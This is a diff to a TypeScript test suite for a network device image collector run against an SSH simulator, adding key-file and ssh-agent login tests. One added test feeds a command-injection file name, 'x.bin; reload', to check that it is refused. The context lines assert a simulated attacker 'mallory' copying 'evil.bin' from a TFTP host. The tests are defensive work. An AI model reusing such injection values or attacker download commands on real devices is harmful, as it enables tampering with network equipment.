@@ -1,8 +1,11 @@
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { spawn, spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { DeviceState } from '../model/state.js';
 import { startFleet, SIM_PASSWORD, type Fleet, type Misbehaviour } from '../sim/index.js';
+import { hostKeyFromSeed } from '../sim/host-key.js';
 import { syntheticFleet } from '../sim/synthetic.js';
 import { collect } from './index.js';
 
@@ -25,10 +28,11 @@ describe('collect against the simulator', () => {
   let fleet: Fleet;
   const { devices, catalog } = syntheticFleet(15);
   const env = { IMAGEGATE_SSH_PASSWORD: SIM_PASSWORD };
+  const userKey = hostKeyFromSeed(createHash('sha256').update('collector key').digest(), 'collector');
 
   beforeAll(async () => {
     dir = mkdtempSync(join(tmpdir(), 'ig-collect-'));
-    fleet = await startFleet(devices, catalog, { logDir: dir, slowMs: 2500, hugeOutputBytes: 5 * 1024 * 1024 });
+    fleet = await startFleet(devices, catalog, { logDir: dir, slowMs: 2500, hugeOutputBytes: 5 * 1024 * 1024, authorizedKeys: [userKey.publicKey] });
   });
   afterAll(async () => {
     await fleet.close();
@@ -107,5 +111,38 @@ describe('collect against the simulator', () => {
     expect(syslog).toContain('%SYS-5-RESTART: System restarted');
     expect(readFileSync(fleet.logs.tftp, 'utf8')).toMatch(/^\w{3} [ \d]\d \d\d:\d\d:\d\d tftp in\.tftpd\[\d+\]: RRQ from 10\.0\.0\.1 filename evil\.bin$/m);
     expect(readFileSync(fleet.logs.tacacs, 'utf8')).toMatch(/\t10\.0\.0\.1\tmallory\tvty\d+\t10\.1\.1\.10\tstop\ttask_id=\d+\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=copy tftp:\/\/10\.9\.9\.9\/evil\.bin flash: <cr>\n/);
+  });
+
+  it('logs in with a key file and with an SSH agent, no password anywhere', async () => {
+    const keyFile = join(dir, 'id_ed25519');
+    writeFileSync(keyFile, userKey.privateKey, { mode: 0o600 });
+    const byKey = await collect(devices.slice(0, 5), catalog, { sshConfig: fleet.sshConfig(), env: { IMAGEGATE_SSH_KEY: keyFile }, timeoutSeconds: 5 });
+    expect(byKey.devices.map((d) => d.status)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
+    // IdentityFile from the SSH config works the same
+    const viaConfig = await collect(devices.slice(0, 1), catalog, { sshConfig: `${fleet.sshConfig()}\nHost *\n  IdentityFile ${keyFile}\n`, env: {}, timeoutSeconds: 5 });
+    expect(viaConfig.devices[0]?.status).toBe('ok');
+    if (!existsSync('/usr/bin/ssh-agent')) throw new Error('ssh-agent is missing: apt-get install -y openssh-client');
+    const sock = join(dir, 'agent.sock');
+    const agent = spawn('/usr/bin/ssh-agent', ['-D', '-a', sock], { stdio: 'ignore' });
+    try {
+      for (let i = 0; i < 100 && !existsSync(sock); i++) await new Promise((r) => setTimeout(r, 20));
+      const add = spawnSync('/usr/bin/ssh-add', [keyFile], { env: { SSH_AUTH_SOCK: sock } });
+      expect(add.status).toBe(0);
+      const byAgent = await collect(devices.slice(0, 5), catalog, { sshConfig: fleet.sshConfig(), env: { SSH_AUTH_SOCK: sock }, timeoutSeconds: 5 });
+      expect(byAgent.devices.map((d) => d.status)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
+    } finally {
+      agent.kill();
+    }
+  });
+
+  it('never sends a hash command built from an unsafe file name', async () => {
+    const hostile = { ...catalog, images: catalog.images.map((i) => (i.platform === 'cisco_ios' ? { ...i, file: 'x.bin; reload' } : i)) };
+    const ios = devices.filter((d) => d.platform === 'cisco_ios').slice(0, 1);
+    const state = await collect(ios, hostile, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 5 });
+    expect(state.devices[0]).toMatchObject({ status: 'unverified', reason: 'command-failed' });
+    expect(state.devices[0]?.detail).toContain('refusing file name');
+    fleet.flushLogs();
+    expect(readFileSync(fleet.logs.tacacs, 'utf8')).not.toContain('x.bin');
+    expect(fleet.device(ios[0]?.name ?? '').uptimeSeconds()).toBeGreaterThan(86400);
   });
 });
